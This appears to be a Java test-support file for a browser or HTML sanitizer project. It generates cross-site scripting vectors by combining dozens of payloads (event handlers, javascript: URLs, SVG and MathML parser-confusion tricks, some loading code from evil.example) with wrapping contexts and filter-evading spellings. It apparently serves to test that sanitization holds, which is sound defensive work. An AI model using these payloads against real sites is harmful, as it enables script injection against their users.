package org.colophon.browser;

import static java.util.stream.Collectors.toCollection;

import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** Ways to run a script from within a text: what runs it, written in several ways, inside of what makes parsers disagree. */
final class Vectors {

    private static final List<String> CALLS = List.of("alert(1)", "top.alert(1)", "window['al'+'ert'](1)");

    /** The call is put for {@code %s}. */
    private static final List<String> PAYLOADS = List.of(
            "<script>%s</script>",
            "<script src='//evil.example/x.js'></script>",
            "<img src=x onerror=%s>",
            "<img src='/files/x' onerror=%s>",
            "<img srcset='//evil.example/x 1x' onerror=%s>",
            "<image href=x onerror=%s>",
            "<svg onload=%s>",
            "<svg><script>%s</script></svg>",
            "<svg><script href='data:text/javascript,%s'/></svg>",
            "<svg><a xlink:href='javascript:%s'><text y=20>x</text></a></svg>",
            "<svg><a><animate attributeName=href values='javascript:%s'/><text y=20>x</text></a></svg>",
            "<svg><animate onbegin=%s attributeName=x dur=1s></svg>",
            "<svg><set onbegin=%s attributeName=x></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='%s'/></svg>#x\"/></svg>",
            "<svg><image href=x onerror=%s></svg>",
            "<svg><foreignObject><img src=x onerror=%s></foreignObject></svg>",
            "<svg><style>@import'//evil.example/x.css';</style><rect fill='url(//evil.example/x#y)'/></svg>",
            "<svg><desc><img src=x onerror=%s></desc><path d=M0/></svg>",
            "<svg><title><style><img title='</style><img src=x onerror=%s>'></title><path d=M0/></svg>",
            "<math href='javascript:%s'><mi>x</mi></math>",
            "<math><mtext><img src=x onerror=%s></mtext></math>",
            "<math><annotation-xml encoding='text/html'><img src=x onerror=%s></annotation-xml><mi>x</mi></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=%s&gt;'>",
            "<math><maction actiontype='statusline#javascript:%s'><mi>x</mi></maction></math>",
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=%s src>'>",
            "<iframe src='javascript:%s'></iframe>",
            "<iframe srcdoc='<script>parent.%s</script>'></iframe>",
            "<object data='javascript:%s'>x</object>",
            "<embed src='javascript:%s'>",
            "<a href='javascript:%s'>x</a>",
            "<a href='&#x6A;avascript&colon;%s'>x</a>",
            "<a href='java&Tab;script&NewLine;:%s'>x</a>",
            "<a href='\u0001javascript:%s'>x</a>",
            "<a href='data:text/html,<script>%s</script>'>x</a>",
            "<a href='#x' href='javascript:%s' ping='//evil.example' onfocus=%s autofocus tabindex=1>x</a>",
            "<p style='background:url(//evil.example/x);width:expression(%s)' onmouseover=%s>x</p>",
            "<base href='//evil.example/'><a href='#y'>x</a><p id=y>y</p>",
            "<meta http-equiv=refresh content='0;url=javascript:%s'>",
            "<link rel=stylesheet href='//evil.example/x.css' onload=%s>",
            "<style>@import '//evil.example/x.css'; p { background: url(//evil.example/y) }</style>",
            "<details open ontoggle=%s><summary>x</summary></details>",
            "<video><source onerror=%s></video><audio src=x onerror=%s></audio>",
            "<input autofocus onfocus=%s>",
            "<select autofocus onfocus=%s><option>x</select>",
            "<form id=document name=body action='javascript:%s'><input name=cookie id=alert><button>x</button></form>",
            "<a id=alert name=top href='cid:%s'>x</a><p id=fired class=x>y</p>",
            "<marquee onstart=%s>x</marquee>",
            "<body onload=%s><p onclick=%s>x",
            "<noscript><p title='</noscript><img src=x onerror=%s>'></noscript>",
            "<template><img src=x onerror=%s></template>",
            "<textarea><img title='</textarea><img src=x onerror=%s>'>",
            "<xmp><p title='</xmp><img src=x onerror=%s>'></xmp>",
            "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src=x onerror=%s>'>",
            "<svg></p><style><a id='</style><img src=1 onerror=%s>'>",
            "<p id='\"><img src=x onerror=%s>'><a href='https://a.example/\"><img src=x onerror=%s>'>x</a></p>",
            "<pre><code class='language-x\"><img src=x onerror=%s>'>x</code></pre>",
            "<img alt='\"><img src=x onerror=%s>' src='/files/" + "0".repeat(64) + ".png'>");

    /** The payload is put for {@code %s}. */
    private static final List<String> CONTEXTS = List.of(
            "%s",
            "<p>before %s after</p>",
            "<table><tr><td>%s</td></tr></table>",
            "<table>%s<tr><td>x</table>",
            "<ul><li>%s</li></ul>",
            "<a href='https://a.example'>%s</a>",
            "<figure>%s<figcaption>x</figcaption></figure>",
            "<svg><title>%s</title><path d='M0'/></svg>",
            "<svg><text>%s</text></svg>",
            "<math><mtext>%s</mtext><mi>x</mi></math>",
            "<math><mi>x</mi><mglyph>%s</math>",
            "<!--%s-->%s",
            "<pre>\n%s</pre>",
            "<svg><![CDATA[%s]]></svg>%s",
            "<b><i><p>%s</b></i>");

    private static final List<UnaryOperator<String>> SPELLINGS = List.of(
            it -> it,
            it -> it.replace("<script", "<ScRiPt")
                    .replace("javascript", "JaVaScRiPt")
                    .replace(" on", " ON"),
            it -> it.replace(" on", "/on").replace("<svg>", "<svg/>"),
            it -> it.replace("alert", "&#97;lert"),
            it -> it.replace("<", "<\u0000"),
            it -> it.replace("javascript:", "java\nscript:").replace("='", "=\n'"));

    private Vectors() {}

    /** All of them, each once. */
    static Set<String> all() {
        return PAYLOADS.stream()
                .flatMap(payload -> CALLS.stream().map(call -> payload.replace("%s", call)))
                .flatMap(payload -> CONTEXTS.stream().map(context -> context.replace("%s", payload)))
                .flatMap(vector -> SPELLINGS.stream().map(spelling -> spelling.apply(vector)))
                .collect(toCollection(LinkedHashSet::new));
    }

    /** Vectors that do run where nothing has disarmed them. */
    static Stream<String> live() {
        return Stream.of(
                "<img src=x onerror=alert(1)>",
                "<svg><image href=x onerror=alert(1)></svg>",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>");
    }
}
